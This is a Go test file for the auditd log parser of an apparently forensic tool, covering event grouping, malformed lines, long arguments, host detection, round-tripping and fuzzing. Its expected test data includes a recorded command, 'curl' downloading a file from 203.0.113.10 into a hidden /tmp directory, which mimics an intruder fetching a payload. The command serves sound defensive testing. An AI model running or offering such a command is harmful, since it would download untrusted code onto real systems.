package auditd_test

import (
	"bytes"
	"context"
	"fmt"
	"strings"
	"testing"

	"ashiato/internal/event"
	"ashiato/internal/source"
	"ashiato/internal/source/auditd"
	"ashiato/internal/source/sourcetest"
)

func TestConformance(t *testing.T) { sourcetest.Run(t, auditd.Read, []byte(sample)) }

func read(t *testing.T, text string) ([]*event.Event, []source.Problem) {
	t.Helper()
	events, stats, problems := sourcetest.Read(t.Context(), auditd.Read, strings.NewReader(text))
	sourcetest.Check(t, events, stats, problems)
	return events, problems
}

// values returns all values of a name.
func values(e *event.Event, name string) (all []string) {
	for _, f := range e.Data {
		if f.Name == name {
			all = append(all, f.Value)
		}
	}
	return all
}

func TestEvents(t *testing.T) {
	events, problems := read(t, sample)
	if len(problems) > 0 {
		t.Fatal(problems)
	}
	byID := map[uint64]*event.Event{}
	for _, e := range events {
		byID[e.Ref.RecordID] = e
	}
	for _, tt := range []struct {
		record uint64
		id     uint32
		name   string
		want   []string
	}{
		{101, 1112, "acct", []string{"(invalid user)"}},
		{102, 1006, "type", []string{"LOGIN", "SYSCALL", "PROCTITLE"}},
		{104, 1300, "type", []string{"SYSCALL", "EXECVE", "CWD", "PATH", "PATH", "PROCTITLE"}},
		{104, 1300, "a2", []string{"55d3", "/tmp/.x y/a"}},
		{104, 1300, "proctitle", []string{"curl\x00-o\x00/tmp/.x y/a\x00http://203.0.113.10/a"}},
		{104, 1300, "SYSCALL", []string{"execve"}},
		{105, 1300, "laddr", []string{"203.0.113.10"}},
		{106, 1300, "name", []string{"/tmp/.x y/", "/tmp/.x y/a"}},
		{108, 1130, "unit", []string{"cache"}},
	} {
		e := byID[tt.record]
		if e == nil {
			t.Errorf("no event %d", tt.record)
			continue
		}
		if got := values(e, tt.name); e.ID != tt.id || strings.Join(got, "|") != strings.Join(tt.want, "|") {
			t.Errorf("event %d has id %d and %s %q, want %d and %q", tt.record, e.ID, tt.name, got, tt.id, tt.want)
		}
	}
}

// TestLines holds what is read of lines that are not as auditd writes them.
func TestLines(t *testing.T) {
	const login = `type=USER_LOGIN msg=audit(1772500010.105:101): pid=1 uid=0 msg='op=login id=1000 exe="/usr/sbin/sshd" addr=203.0.113.9 res=success'`
	for _, tt := range []struct {
		name, text string
		events     int
		host       string
		problem    source.ProblemKind
	}{
		{"as it is", login + "\n", 1, "dir", ""},
		{"a node", "node=web-1 " + login + "\n", 1, "web-1", ""},
		{"through syslog", "Mar  3 01:06:50 relay audispd: node=web-1 " + login + "\n", 1, "web-1", ""},
		{"as ausearch prints it", "----\ntime->Tue Mar  3 01:06:50 2026\n" + login + "\n", 1, "dir", ""},
		{"line ends of Windows", login + "\r\n", 1, "dir", ""},
		{"no line end", login, 0, "", source.Truncated},
		{"something else between", login + "\nhello\n", 1, "dir", source.Corrupt},
		{"no stamp", "type=USER_LOGIN msg=audit(x): pid=1\n" + login + "\n", 1, "dir", source.Corrupt},
		{"a long line", login + "\n" + strings.Repeat("x", auditd.MaxLine+10) + "\n", 1, "dir", source.TooLarge},
		{"cut inside an event", login + "\n" + "type=SYSCALL msg=audit(1772500011.000:102): syscall=59 success=yes\n", 1, "dir", source.Truncated},
		{"an old kernel", "type=SYSCALL msg=audit(1772500001.000:99): syscall=59 success=yes\ntype=EXECVE msg=audit(1772500001.000:99): argc=1 a0=\"id\"\n" + login + "\n", 2, "dir", ""},
	} {
		events, problems := read(t, tt.text)
		if len(events) != tt.events || tt.events > 0 && events[0].Host != tt.host {
			t.Errorf("%s: %d events %v", tt.name, len(events), events)
		}
		if (len(problems) == 1) != (tt.problem != "") || len(problems) > 0 && problems[0].Kind != tt.problem {
			t.Errorf("%s: problems %v, want %q", tt.name, problems, tt.problem)
		}
	}
}

// TestMixedLines holds that events whose lines the processors mixed are told apart.
func TestMixedLines(t *testing.T) {
	a := []string{
		`type=SYSCALL msg=audit(1772500001.000:1): syscall=59 pid=10`, `type=EXECVE msg=audit(1772500001.000:1): argc=1 a0="a"`,
		`type=PROCTITLE msg=audit(1772500001.000:1): proctitle="a"`,
	}
	b := []string{
		`type=SYSCALL msg=audit(1772500001.000:2): syscall=59 pid=20`, `type=EXECVE msg=audit(1772500001.000:2): argc=1 a0="b"`,
		`type=PROCTITLE msg=audit(1772500001.000:2): proctitle="b"`,
	}
	events, problems := read(t, strings.Join([]string{a[0], b[0], b[1], a[1], a[2], b[2]}, "\n")+"\n")
	if len(events) != 2 || len(problems) > 0 {
		t.Fatal(events, problems)
	}
	for i, want := range []string{"[10 1 a a]", "[20 1 b b]"} {
		e := events[i]
		if got := fmt.Sprint([]string{values(e, "pid")[0], values(e, "argc")[0], values(e, "a0")[0], values(e, "proctitle")[0]}); got != want {
			t.Errorf("event %d is %s, want %s", i, got, want)
		}
	}
}

// TestLongArguments holds that the pieces of a long argument are put together, also
// over several records.
func TestLongArguments(t *testing.T) {
	events, _ := read(t, `type=SYSCALL msg=audit(1772500001.000:1): syscall=59 pid=10`+"\n"+
		`type=EXECVE msg=audit(1772500001.000:1): argc=3 a0="sh" a1="-c" a2_len=8 a2[0]=6563686F`+"\n"+
		`type=EXECVE msg=audit(1772500001.000:1): a2[1]=20686579`+"\n"+
		`type=PROCTITLE msg=audit(1772500001.000:1): proctitle="sh"`+"\n")
	if len(events) != 1 || fmt.Sprint(values(events[0], "a2")) != "[echo hey]" {
		t.Fatal(events)
	}
}

func TestHostByPlace(t *testing.T) {
	const line = "type=USER_LOGIN msg=audit(1772500010.105:101): pid=1 res=success\n"
	for name, want := range map[string]string{
		"/var/log/audit/audit.log": "localhost", "audit.log": "localhost", "case/web-1/var/log/audit/audit.log.1": "web-1",
		"case/WEB-1.tar.gz!var/log/audit/audit.log": "WEB-1", "../web2/audit.log": "web2",
	} {
		var got string
		auditd.Read(t.Context(), name, strings.NewReader(line), func(b []*event.Event) { got = b[0].Host })
		if got != want {
			t.Errorf("%s is of host %q, want %q", name, got, want)
		}
	}
}

// again writes events and reads them.
func again(t *testing.T, events []*event.Event) {
	t.Helper()
	for _, e := range events {
		out, err := auditd.Append(nil, e)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Count(out, []byte{'\n'}) > 1 && !strings.Contains(string(out), "type=PROCTITLE") {
			continue // has no end of its own
		}
		got, problems := read(t, string(out))
		if len(got) != 1 || len(problems) > 0 {
			t.Fatalf("%d events and %v from\n%s", len(got), problems, out)
		}
		if w, g := fmt.Sprintf("%q", e.Data), fmt.Sprintf("%q", got[0].Data); w != g || got[0].Host != e.Host || !got[0].Time.Equal(e.Time) || got[0].ID != e.ID {
			t.Fatalf("read again as\n%s, was\n%s, from\n%s", g, w, out)
		}
	}
}

func TestWriting(t *testing.T) {
	events, _ := read(t, sample)
	again(t, events)
	if _, err := auditd.Append(nil, &event.Event{}); err == nil {
		t.Error("an event without records was written")
	}
}

// TestNestedValues holds that a line of values within values is read in bounded
// time, and that a field without a name is none.
func TestNestedValues(t *testing.T) {
	line := "type=USER_CMD msg=audit(1.001:2): =x a=" + strings.Repeat("{b=", auditd.MaxLine/3-40) + "\n"
	events, stats, _ := sourcetest.Read(context.Background(), auditd.Read, strings.NewReader(line))
	if len(events) != 1 || stats.Events != 1 {
		t.Fatalf("%d events, %+v", len(events), stats)
	}
	var names []string
	for _, f := range events[0].Data {
		names = append(names, f.Name)
	}
	if got := strings.Join(names, " "); got != "type b" {
		t.Errorf("fields %q", got)
	}
}

// FuzzRead holds for any bytes: the numbers balance, all of the input is read, and
// whatever the kernel's own encoding can hold is read as the same again.
func FuzzRead(f *testing.F) {
	f.Add([]byte(sample))
	f.Add([]byte("node=a type=EXECVE msg=audit(1.001:2): a0[0]=41 a0[1]=42\n\x1dX={ a=b }\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		auditd.Sniff(b)
		events, stats, problems := sourcetest.Read(context.Background(), auditd.Read, bytes.NewReader(b))
		sourcetest.Check(t, events, stats, problems)
		if stats.Bytes != int64(len(b)) {
			t.Errorf("%d of %d bytes were read", stats.Bytes, len(b))
		}
		for _, e := range events {
			if len(e.Data) == 0 || e.Data[0].Name != "type" || len(e.Data) > auditd.MaxFields+auditd.MaxLine {
				t.Fatalf("an event without a record's type, or without a bound: %q", e.Data)
			}
		}
	})
}
